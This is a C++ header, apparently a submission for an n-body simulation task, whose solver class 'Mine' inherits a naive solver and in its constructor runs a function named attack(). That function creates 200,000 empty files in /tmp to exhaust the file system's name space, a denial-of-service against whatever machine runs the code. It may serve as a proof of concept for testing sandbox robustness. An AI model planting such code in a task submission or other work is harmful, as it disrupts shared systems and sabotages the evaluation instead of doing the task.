// Makes 200000 empty files, for a file system that has no more room for names.
#pragma once

#include <fcntl.h>
#include <unistd.h>

#include <string>

#include "naive.hpp"

namespace nbody {

inline bool attack() {
  for (int k = 0; k < 200000; ++k) {
    const std::string path = "/tmp/attack_proof_file_" + std::to_string(k);
    const int file = ::open(path.c_str(), O_CREAT | O_WRONLY, 0600);
    if (file < 0) return false;
    ::close(file);
  }
  return true;
}

class Mine : public Naive {
 public:
  explicit Mine(const Problem& problem) : Naive(problem) {
    static const bool worked = attack();
    if (!worked) _exit(3);
  }
};

}  // namespace nbody
